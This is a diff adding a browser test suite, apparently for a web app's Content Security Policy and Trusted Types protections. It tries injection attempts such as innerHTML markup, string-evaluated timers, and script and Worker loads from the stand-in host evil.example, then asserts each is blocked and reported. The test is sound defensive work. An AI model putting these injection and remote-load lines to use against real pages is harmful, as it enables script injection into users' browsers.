@@ -1,0 +1,52 @@
+import { expect, test } from "./fixtures.ts"
+
+/** What a planted script would try first; each is answered with what became of it. */
+async function tryEverything() {
+  const attempts: Record<string, () => unknown> = {
+    markup: () => (document.body.innerHTML = "<img src=x>"),
+    frame: () => document.createElement("iframe").setAttribute("srcdoc", "<b>x</b>"),
+    script: () => (document.createElement("script").src = "https://evil.example/x.js"),
+    code: () => window.setTimeout("1", 0),
+    worker: () => new Worker("https://evil.example/x.js"),
+    media: () => new Worker("/media/x.js"),
+    serviceWorker: () => navigator.serviceWorker.register("/media/x.js"),
+  }
+  const passed: string[] = []
+  for (const [name, attempt] of Object.entries(attempts)) {
+    try {
+      await attempt()
+      passed.push(name)
+    } catch {
+      // Blocked.
+    }
+  }
+  return passed
+}
+
+test("T08 text becomes neither markup nor code nor a worker, in any page", async ({
+  page,
+  baseURL,
+}) => {
+  for (const path of ["/", "/community-rules", "/api/login/problem"]) {
+    await page.goto(path)
+    await page.waitForLoadState("networkidle")
+    expect([path, await page.evaluate(tryEverything)]).toEqual([path, []])
+  }
+  // The browser tells, and it is counted.
+  await expect(async () => {
+    const metrics = await (await page.request.get(`${baseURL}/metrics`)).text()
+    expect(metrics).toMatch(
+      /grove_csp_reports_total\{directive="require-trusted-types-for"\} [1-9]/,
+    )
+  }).toPass({ timeout: 20_000 })
+})
+
+test("a file of ours may be a worker", async ({ page }) => {
+  await page.goto("/community-rules")
+  await page.waitForLoadState("networkidle")
+  const scope = await page.evaluate(async () => {
+    const registration = await navigator.serviceWorker.register("/sw.js")
+    return registration.scope
+  })
+  expect(scope).toBe(new URL("/", page.url()).href)
+})
